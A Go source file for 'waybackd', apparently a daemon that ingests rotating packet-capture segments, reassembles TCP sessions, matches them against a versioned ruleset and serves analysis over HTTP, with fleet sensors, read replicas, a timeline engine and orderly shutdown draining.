// read API from it: every analysis endpoint answers byte-for-byte what the
// coordinator answers at the same replication cut, replication lag is on
// /metrics, and /healthz degrades on lost coordinator contact (staleness
// from the feed's heartbeat, not local appends) or terminal divergence. A
// restarted replica resumes from its own committed cut — only the delta is
// re-shipped, never the full log.
//
// Shutdown (SIGINT/SIGTERM) drains: every byte already captured flows
// through to the store before the process exits, so a restart resumes with
// nothing lost but traffic recorded after the signal.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net/http"
	"net/http/pprof"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fleet"
	"repro/internal/ingest"
	"repro/internal/registry"
	"repro/internal/replica"
	"repro/internal/serve"
	"repro/internal/tcpasm"
	"repro/internal/timeline"
	"repro/wayback"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybackd:", err)
		os.Exit(1)
	}
}

// daemon holds the wired components; split from run so tests can drive the
// exact production wiring in-process.
type daemon struct {
	study    *wayback.Study
	store    *eventstore.Store
	pipeline *ingest.Pipeline   // nil in coordinator-only mode
	fleet    *fleet.Listener    // nil without -fleet-listen
	timeline *timeline.Engine   // nil without -timeline
	registry *registry.Registry // nil without -rules-dir
	replica  *replica.Replica   // nil without -replica-of
	feed     *replica.Feed      // nil without -replica-listen
	server   *serve.Server

	sealStop chan struct{}
	sealDone chan struct{}
	sealOnce sync.Once

	rulesStop chan struct{}
	rulesDone chan struct{}
	rulesOnce sync.Once
}

type daemonConfig struct {
	watchDir    string // empty = no local tail (fleet-only coordinator)
	storeDir    string
	prefix      string
	seed        int64
	timelines   string
	poll        time.Duration
	flushIdle   time.Duration
	batch       int
	workers     int
	reasmShards int // flow-sharded reassembly width; 0 = default
	// overlapPolicy selects how reassembly resolves conflicting overlapping
	// retransmits; conflicting sessions are flagged ambiguous either way.
	overlapPolicy tcpasm.OverlapPolicy
	fleetListen   string        // empty = fleet listener off
	staleAfter    time.Duration // zero = healthz never degrades
	// commitInterval is how long the fleet committer gathers appended
	// batches before one coalesced fsync; zero lets the fsync itself pace
	// grouping (adaptive group commit).
	commitInterval time.Duration
	// timelineDir, when set, enables the time-travel engine: sealed segments
	// and checkpoints live there, and the API grows as-of queries.
	timelineDir  string
	tlSegment    int           // events per sealed segment; 0 = engine default
	tlCheckpoint int           // checkpoint every N segments; negative = never
	tlSeal       time.Duration // sealer poll interval; 0 = 5s
	// rulesDir, when set, enables the versioned ruleset registry: the
	// publication journal, session digests, and the compiled-automaton cache
	// live there, the matcher hot-reloads between batches, and the HTTP API
	// grows /v1/ruleset.
	rulesDir      string
	rulesReload   time.Duration // journal poll + rescan worker interval; 0 = 5s
	rescanBacklog int           // healthz degrades past this many pending digests
	// replicaOf, when set, runs the daemon as a read replica: no local
	// capture, no fleet, no ruleset registry — the store tails the named
	// coordinator's replication feed and the HTTP API serves from it.
	replicaOf string
	replicaID string // replica identity at the feed; default hostname
	// replicaListen, when set, serves this store's committed log to read
	// replicas.
	replicaListen string
}

func openDaemon(cfg daemonConfig) (*daemon, error) {
	switch cfg.timelines {
	case "pipeline", "appendix":
	default:
		return nil, fmt.Errorf("-timelines must be pipeline or appendix, got %q", cfg.timelines)
	}
	study, err := wayback.NewStudy(wayback.Config{
		Seed:              cfg.seed,
		PipelineTimelines: cfg.timelines == "pipeline",
	})
	if err != nil {
		return nil, err
	}
	if cfg.replicaOf != "" {
		if cfg.watchDir != "" || cfg.fleetListen != "" || cfg.rulesDir != "" || cfg.replicaListen != "" {
			return nil, errors.New("-replica-of is exclusive with -watch, -fleet-listen, -rules-dir, and -replica-listen: a read replica only tails its coordinator")
		}
	} else if cfg.watchDir == "" && cfg.fleetListen == "" {
		return nil, errors.New("need -watch, -fleet-listen, or -replica-of")
	}
	store, err := wayback.OpenStore(cfg.storeDir)
	if err != nil {
		return nil, err
	}
	var reg *registry.Registry
	if cfg.rulesDir != "" {
		reg, err = registry.Open(registry.Config{
			Dir:    cfg.rulesDir,
			Base:   study.DatedRuleset(),
			Engine: study.EngineConfig(),
		})
		if err != nil {
			store.Close()
			return nil, err
		}
	}
	var pipeline *ingest.Pipeline
	if cfg.watchDir != "" {
		icfg := ingest.Config{
			Dir:           cfg.watchDir,
			Prefix:        cfg.prefix,
			Engine:        study.Engine(),
			Store:         store,
			PollInterval:  cfg.poll,
			FlushIdle:     cfg.flushIdle,
			BatchSessions: cfg.batch,
			MatchWorkers:  cfg.workers,
			DecodeShards:  cfg.reasmShards,
			Assembler:     tcpasm.Config{OverlapPolicy: cfg.overlapPolicy},
		}
		if reg != nil {
			// Hot reload: the pipeline consults the registry's live engine
			// pointer between batches, and records per-session digests so a
			// later publication can re-attribute history.
			icfg.EngineSource = reg.Engine
			icfg.Digests = reg
		}
		pipeline, err = ingest.Start(icfg)
		if err != nil {
			if reg != nil {
				reg.Close()
			}
			store.Close()
			return nil, err
		}
	}
	var fl *fleet.Listener
	if cfg.fleetListen != "" {
		fl, err = fleet.Listen(fleet.ListenerConfig{
			Addr:           cfg.fleetListen,
			Sink:           store,
			Dir:            store.Dir(),
			CommitInterval: cfg.commitInterval,
		})
		if err != nil {
			if pipeline != nil {
				pipeline.Close()
			}
			if reg != nil {
				reg.Close()
			}
			store.Close()
			return nil, err
		}
	}
	var rep *replica.Replica
	if cfg.replicaOf != "" {
		id := cfg.replicaID
		if id == "" {
			if h, herr := os.Hostname(); herr == nil && h != "" {
				id = h
			} else {
				id = "replica"
			}
		}
		rep, err = replica.Start(replica.Config{Addr: cfg.replicaOf, Store: store, ID: id})
		if err != nil {
			store.Close()
			return nil, err
		}
	}
	var feed *replica.Feed
	if cfg.replicaListen != "" {
		feed, err = replica.ListenFeed(replica.FeedConfig{Addr: cfg.replicaListen, Store: store, Sync: true})
		if err != nil {
			if fl != nil {
				fl.Close()
			}
			if pipeline != nil {
				pipeline.Close()
			}
			if reg != nil {
				reg.Close()
			}
			store.Close()
			return nil, err
		}
	}
	cleanup := func() {
		if feed != nil {
			feed.Close()
		}
		if rep != nil {
			rep.Close()
		}
		if fl != nil {
			fl.Close()
		}
		if pipeline != nil {
			pipeline.Close()
		}
		if reg != nil {
			reg.Close()
		}
		store.Close()
	}
	var tl *timeline.Engine
	if cfg.timelineDir != "" {
		tl, err = study.OpenTimeline(cfg.timelineDir, store, timeline.Config{
			SegmentEvents:   cfg.tlSegment,
			CheckpointEvery: cfg.tlCheckpoint,
		})
		if err != nil {
			cleanup()
			return nil, err
		}
	}
	srvCfg := serve.Config{
		Study: study, Store: store, Ingest: pipeline,
		Timeline:         tl,
		StaleAfter:       cfg.staleAfter,
		Registry:         reg,
		RescanBacklogMax: cfg.rescanBacklog,
	}
	if fl != nil {
		srvCfg.Fleet = fl
	}
	if rep != nil {
		srvCfg.Replica = rep
	}
	if feed != nil {
		srvCfg.ReplicaFeed = feed
	}
	server, err := serve.New(srvCfg)
	if err != nil {
		cleanup()
		return nil, err
	}
	d := &daemon{study: study, store: store, pipeline: pipeline, fleet: fl, timeline: tl, registry: reg, replica: rep, feed: feed, server: server}
	if tl != nil {
		interval := cfg.tlSeal
		if interval <= 0 {
			interval = 5 * time.Second
		}
		d.sealStop = make(chan struct{})
		d.sealDone = make(chan struct{})
		go func() {
			defer close(d.sealDone)
			t := time.NewTicker(interval)
			defer t.Stop()
			for {
				select {
				case <-d.sealStop:
					return
				case <-t.C:
					if _, err := tl.Tick(); err != nil {
						fmt.Fprintln(os.Stderr, "waybackd: timeline:", err)
					}
				}
			}
		}()
	}
	if reg != nil {
		interval := cfg.rulesReload
		if interval <= 0 {
			interval = 5 * time.Second
		}
		d.rulesStop = make(chan struct{})
		d.rulesDone = make(chan struct{})
		go func() {
			defer close(d.rulesDone)
			t := time.NewTicker(interval)
			defer t.Stop()
			for {
				select {
				case <-d.rulesStop:
					return
				case <-t.C:
					// Pick up publications journaled by another process
					// (waybackctl -dir against the same registry directory);
					// in-process publishes over HTTP are already live.
					if _, err := reg.Refresh(); err != nil {
						fmt.Fprintln(os.Stderr, "waybackd: ruleset:", err)
						continue
					}
					// Rescan worker: any publication — local or remote — that
					// left a pending marker gets its retroactive
					// re-attribution here, off the ingest path.
					if reg.RescanNeeded() {
						stats, err := reg.Rescan(store)
						if err != nil {
							fmt.Fprintln(os.Stderr, "waybackd: rescan:", err)
							continue
						}
						fmt.Printf("waybackd: rescan gen %d: %d digests, %d sessions re-attributed\n",
							reg.Generation(), stats.Digests, stats.Amended)
					}
				}
			}
		}()
	}
	return d, nil
}

// stopRules halts the ruleset reload poller and rescan worker. Idempotent;
// a daemon without a registry makes it a no-op.
func (d *daemon) stopRules() {
	d.rulesOnce.Do(func() {
		if d.rulesStop == nil {
			return
		}
		close(d.rulesStop)
		<-d.rulesDone
	})
}

// stopTimeline halts the background sealer and seals the committed tail into
// a final segment, so a restart can answer as-of queries from segments alone.
// Idempotent; a nil engine makes it a no-op.
func (d *daemon) stopTimeline() error {
	var err error
	d.sealOnce.Do(func() {
		if d.timeline == nil {
			return
		}
		close(d.sealStop)
		<-d.sealDone
		_, err = d.timeline.Seal()
	})
	return err
}

// close drains and shuts down in dependency order: stop ingesting (which
// consumes everything already on disk), stop accepting fleet batches (each
// applied batch has its watermark recorded first), then close the store.
func (d *daemon) close() error {
	var err error
	d.stopRules()
	if d.pipeline != nil {
		err = d.pipeline.Close()
	}
	if d.fleet != nil {
		if ferr := d.fleet.Close(); err == nil {
			err = ferr
		}
	}
	if d.feed != nil {
		if ferr := d.feed.Close(); err == nil {
			err = ferr
		}
	}
	if d.replica != nil {
		if rerr := d.replica.Close(); err == nil {
			err = rerr
		}
	}
	if terr := d.stopTimeline(); err == nil {
		err = terr
	}
	if d.registry != nil {
		if rerr := d.registry.Close(); err == nil {
			err = rerr
		}
	}
	if cerr := d.store.Close(); err == nil {
		err = cerr
	}
	return err
}

func run(args []string) error {
	fs := flag.NewFlagSet("waybackd", flag.ContinueOnError)
	watch := fs.String("watch", "", "directory of rotating pcap segments to tail (required)")
	storeDir := fs.String("store", "", "event store directory (required)")
	prefix := fs.String("prefix", "dscope", "segment filename prefix")
	addr := fs.String("addr", ":8416", "HTTP listen address")
	seed := fs.Int64("seed", 1, "analysis seed (KEV catalog, population model)")
	timelines := fs.String("timelines", "pipeline", "lifecycle source: pipeline (from ingested events) or appendix")
	poll := fs.Duration("poll", 100*time.Millisecond, "tail poll interval")
	flushIdle := fs.Duration("flush-idle", 2*time.Second, "flush open connections after this much capture silence")
	batch := fs.Int("batch", 256, "sessions per match batch")
	workers := fs.Int("workers", 0, "match workers (0 = GOMAXPROCS)")
	fs.IntVar(workers, "match-workers", 0, "alias of -workers")
	reasmShards := fs.Int("reasm-shards", 0, "flow-sharded reassembly width (0 = min(8, GOMAXPROCS))")
	overlapFlag := fs.String("overlap-policy", "first-wins", "reassembly policy for conflicting overlapping retransmits (first-wins | last-wins); conflicting sessions are flagged ambiguous either way")
	fleetListen := fs.String("fleet-listen", "", "accept fleet sensors on this address (\":8417\"); empty = off")
	staleAfter := fs.Duration("stale-after", 0, "healthz answers 503 after this long without new events; 0 = never")
	commitInterval := fs.Duration("commit-interval", 0, "fleet group-commit gather window; 0 = adaptive (fsync-paced)")
	pprofListen := fs.String("pprof-listen", "", "serve net/http/pprof on this address (\"localhost:6060\"); empty = off")
	timelineDir := fs.String("timeline", "", "time-travel engine directory (segments + checkpoints); empty = off")
	tlSegment := fs.Int("timeline-segment", 0, "events per sealed segment (0 = engine default)")
	tlCheckpoint := fs.Int("timeline-checkpoint", 1, "checkpoint every N sealed segments (negative = never)")
	tlSeal := fs.Duration("timeline-seal", 5*time.Second, "background sealer poll interval")
	rulesDir := fs.String("rules-dir", "", "versioned ruleset registry directory (journal, digests, automaton cache); empty = off")
	rulesReload := fs.Duration("rules-reload", 5*time.Second, "ruleset journal poll + rescan worker interval")
	rescanBacklog := fs.Int("rescan-backlog", 0, "healthz degrades past this many pending rescan digests (0 = 65536, negative = never)")
	replicaOf := fs.String("replica-of", "", "run as a read replica tailing this coordinator's -replica-listen address; exclusive with -watch/-fleet-listen/-rules-dir")
	replicaID := fs.String("replica-id", "", "replica identity reported to the coordinator (default: hostname)")
	replicaListen := fs.String("replica-listen", "", "serve the committed log to read replicas on this address (\":8418\"); empty = off")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *storeDir == "" {
		return errors.New("-store is required")
	}
	if *watch == "" && *fleetListen == "" && *replicaOf == "" {
		return errors.New("need -watch (local capture), -fleet-listen (coordinator), or -replica-of (read replica)")
	}
	overlap, err := tcpasm.ParseOverlapPolicy(*overlapFlag)
	if err != nil {
		return err
	}

	d, err := openDaemon(daemonConfig{
		watchDir: *watch, storeDir: *storeDir, prefix: *prefix,
		seed: *seed, timelines: *timelines,
		poll: *poll, flushIdle: *flushIdle, batch: *batch, workers: *workers,
		reasmShards: *reasmShards, overlapPolicy: overlap,
		fleetListen: *fleetListen, staleAfter: *staleAfter,
		commitInterval: *commitInterval,
		timelineDir:    *timelineDir,
		tlSegment:      *tlSegment, tlCheckpoint: *tlCheckpoint, tlSeal: *tlSeal,
		rulesDir: *rulesDir, rulesReload: *rulesReload, rescanBacklog: *rescanBacklog,
		replicaOf: *replicaOf, replicaID: *replicaID, replicaListen: *replicaListen,
	})
	if err != nil {
		return err
	}

	if *pprofListen != "" {
		// pprof stays off the public handler: an explicit mux on its own
		// listener, so profiling exposure is an operator decision.
		pprofMux := http.NewServeMux()
		pprofMux.HandleFunc("/debug/pprof/", pprof.Index)
		pprofMux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
		pprofMux.HandleFunc("/debug/pprof/profile", pprof.Profile)
		pprofMux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
		pprofMux.HandleFunc("/debug/pprof/trace", pprof.Trace)
		pprofSrv := &http.Server{Addr: *pprofListen, Handler: pprofMux}
		go func() {
			if err := pprofSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
				fmt.Fprintln(os.Stderr, "waybackd: pprof:", err)
			}
		}()
		defer pprofSrv.Close()
		fmt.Printf("waybackd: pprof on %s\n", *pprofListen)
	}

	httpSrv := &http.Server{Addr: *addr, Handler: d.server.Handler()}
	errCh := make(chan error, 1)
	go func() {
		if err := httpSrv.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			errCh <- err
		}
	}()
	switch {
	case *replicaOf != "":
		fmt.Printf("waybackd: read replica of %s, store %s, listening on %s\n",
			*replicaOf, *storeDir, *addr)
	case *watch != "" && *fleetListen != "":
		fmt.Printf("waybackd: tailing %s, fleet on %s, store %s, listening on %s\n",
			*watch, *fleetListen, *storeDir, *addr)
	case *fleetListen != "":
		fmt.Printf("waybackd: fleet coordinator on %s, store %s, listening on %s\n",
			*fleetListen, *storeDir, *addr)
	default:
		fmt.Printf("waybackd: tailing %s (prefix %s), store %s, listening on %s\n",
			*watch, *prefix, *storeDir, *addr)
	}
	if *replicaListen != "" {
		fmt.Printf("waybackd: replication feed on %s\n", *replicaListen)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case err := <-errCh:
		d.close()
		return err
	case <-ctx.Done():
	}
	fmt.Println("waybackd: draining")
	// Drain order: finish ingesting what is on disk, stop accepting fleet
	// batches (every applied batch gets its watermark recorded, so sensors
	// redeliver only what was never applied), then stop answering queries
	// (the last answers see the fully drained store), then close.
	var drainErr error
	d.stopRules()
	if d.pipeline != nil {
		drainErr = d.pipeline.Close()
	}
	if d.fleet != nil {
		if err := d.fleet.Close(); err != nil && drainErr == nil {
			drainErr = err
		}
	}
	if d.feed != nil {
		if err := d.feed.Close(); err != nil && drainErr == nil {
			drainErr = err
		}
	}
	if d.replica != nil {
		if err := d.replica.Close(); err != nil && drainErr == nil {
			drainErr = err
		}
	}
	// Seal the committed tail so the next start answers as-of queries from
	// durable segments instead of replaying the store.
	if err := d.stopTimeline(); err != nil && drainErr == nil {
		drainErr = err
	}
	if d.registry != nil {
		if err := d.registry.Close(); err != nil && drainErr == nil {
			drainErr = err
		}
	}
	shutCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := httpSrv.Shutdown(shutCtx); err != nil && drainErr == nil {
		drainErr = err
	}
	if err := d.store.Close(); err != nil && drainErr == nil {
		drainErr = err
	}
	switch {
	case d.pipeline != nil:
		m := d.pipeline.Metrics()
		fmt.Printf("waybackd: drained (%d packets, %d sessions, %d events, %d segments)\n",
			m.Packets, m.Sessions, m.Events, m.SegmentsDone)
	case d.fleet != nil:
		batches, events, dups := d.fleet.Totals()
		fmt.Printf("waybackd: drained (%d fleet batches, %d events, %d duplicates dropped)\n",
			batches, events, dups)
	case d.replica != nil:
		st := d.replica.Status()
		fmt.Printf("waybackd: drained (replica applied %d events, %d amendments, lag %d)\n",
			st.EventsApplied, st.AmendsApplied, st.LagEvents)
	}
	return drainErr
}
